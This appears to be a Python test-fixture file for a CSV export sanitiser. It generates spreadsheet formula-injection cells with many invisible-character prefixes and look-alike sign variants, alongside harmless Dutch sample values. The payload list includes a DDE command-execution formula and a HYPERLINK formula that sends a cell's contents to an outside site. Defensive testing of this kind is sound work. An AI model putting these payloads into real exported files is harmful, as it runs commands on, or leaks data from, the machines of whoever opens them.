"""Cells that a spreadsheet would run, and tables that are too much."""

FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://elders.be/?"&A1;"x")')
FULL_WIDTH = str.maketrans("=+-@", "\uff1d\uff0b\uff0d\uff20")
SMALL = str.maketrans("=+-@", "\ufe66\ufe62\ufe63\ufe6b")
BEFORE = (
    *("", " ", "\t", "\n", "\r", "\r\n", "\v", "\f", "\0", "\x1b", "\x7f", "\u0085", "\u00a0"),
    *("\u00ad", "\u1680", "\u2003"),
    *("\u200b", "\u200e", "\u2028", "\u202e", "\u202f", "\u2060", "\u2066", "\u3000", "\ufeff", " \t\u00a0\u200b"),
)  # fmt: skip
HOSTILE_CELLS = tuple(
    before + formula.translate(signs) for before in BEFORE for formula in FORMULAS for signs in ({}, FULL_WIDTH, SMALL)
)
HARMLESS_CELLS = ("Opleiding", "a=b", "1+1", "e-mail", "naam@bedrijf.be", "(vroeg)", "“Excel”", "é", "3 dagen")

ROW = "Cursus;01/02/2027;opleiding;cybersecurity;850,00\r\n"
